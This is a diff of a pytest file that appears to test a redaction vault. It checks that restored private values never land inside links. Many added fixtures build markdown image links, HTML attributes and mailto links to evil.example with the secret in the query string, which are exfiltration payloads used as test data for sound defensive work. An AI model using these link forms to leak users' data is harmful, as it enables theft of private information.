@@ -44,6 +44,25 @@ STAYS = {
     "a user of a mail's host": "https://evil.example?q=<{}",
     "a user of a mail's host, in quotes": 'https://evil.example?q="<b>{}',
     "many spaces before a target": "[x](        'a{})",
+    "a string before what is no string": '"https://evil.example/?q=\'"{}',
+    "a string that ends, and goes on": '"https://evil.example/?q=";{}',
+    "a string that begins in an address": "https://evil.example/'a'{}",
+    "a string after an address's end": "'>*https://evil.example/'t'{}",
+    "an attribute of no tag": "x href='https://evil.example/'>{}",
+    "an attribute of a tag that is none": "<x ! href='https://evil.example/'>{}",
+    "an attribute without quotes": "<b href=https://evil.example/?q=>{}",
+    "angle brackets around no tag": "<1>https://evil.example/<2>{}",
+    "a tag that does not end": "https://evil.example/<b{}",
+    "a comment that does not end": "https://evil.example<!--{}",
+    "a name after an underscore": "_www.evil.example{}",
+    "spaces in a target": "![x](https://evil.example/?q= {})",
+    "words in a target": "![x]( \n //evil.example/?q=as (they) said,\n{}",
+    "a parenthesis in a string in a target": '![x](https://evil.example/?q=\'a) {} "t")',
+    "a target in another": "![x](https://evil.example/?q=a [w](mailto:{}))",
+    "a target that is cut by lines": "![x](ht\ntps://evil.example/?q= {})",
+    "a target with entities, and spaces": "![x](&#47;/evil.example/?q= {})",
+    "what a mail says, after a space": "[x](mailto:eve@evil.example?body=as said {})",
+    "a long target": "![x](//evil.example/?" + "a b=c " * 3_000 + "{})",
     "a query without a path": "evil.example?q={}",
     "a host with a port": "evil.example:8080/{}",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
@@ -62,7 +81,17 @@ COMES = {
     "beside an address in JSON": '{{"url":"https://example.com/","mail":"{}"}}',
     "an apostrophe after a tag": "<img alt=it's src=x> I don't know {}",
     "a comparison": "if x <y and {}",
+    "after a tag without spaces": "https://example.com/a<br>{}",
+    "the text of a link with more attributes": (
+        "<a class=b href='https://example.com/a' target=\"_blank\" >{}</a>"
+    ),
+    "a string beside an address in a list": "{{'urls':['https://example.com/'],'mail':'{}'}}",
+    "after an address in angle brackets": "<https://example.com/a>{}</b>{}",
+    "in angle brackets after a word": "write to:<{}>",
     "after a long value": '<img src="' + "a b=c " * 3_000 + '"> {}',
+    "after a target": '[x](https://example.com/a_(b)) {} [y](https://example.com "(it\'s)") {}',
+    "a paragraph after a target": "[x](https://example.com/it's\n \n{}",
+    "words in parentheses": "[1](see {}) [2](mailto:{})",
     "a reference and beside entities": "[1]: {}, [2]: a&amp;{}, a\\_b:{}",
     "alternatives": "and/or {}, really?{}",
 }
@@ -100,3 +129,22 @@ def test_an_address_gets_no_value(form: str, vault: Vault) -> None:
 def test_beside_an_address_values_come_back(form: str, vault: Vault) -> None:
     mark = stand_in(vault)
     assert answers(form.replace("{}", mark).format(), vault) == {form.replace("{}", VALUE).format()}
+
+
+@pytest.mark.parametrize("form", ["{}({})", "{}(或{}，或{})", "&#91;{bare}&#93;(a{})", "{}: <{}>"])
+def test_the_bracket_of_a_stand_in_that_is_restored_begins_no_target(
+    form: str, vault: Vault
+) -> None:
+    mark = stand_in(vault)
+    said = form.replace("{bare}", mark.strip("[]")).replace("{}", mark)
+    restored = form.replace("&#91;{bare}&#93;", VALUE).replace("{}", VALUE)
+    assert answers(said, vault) == {restored}
+
+
+@pytest.mark.parametrize(
+    "form", ["[{}](a?q={left})", "[EMAIL_2222222](a?q={left})", "[EMAIL_2222222]: <a {left}>"]
+)
+def test_another_bracket_begins_a_target(form: str, vault: Vault) -> None:
+    mark = stand_in(vault)
+    said = form.replace("{}", mark).replace("{left}", mark)
+    assert answers(said, vault) == {form.replace("{}", VALUE).replace("{left}", mark)}
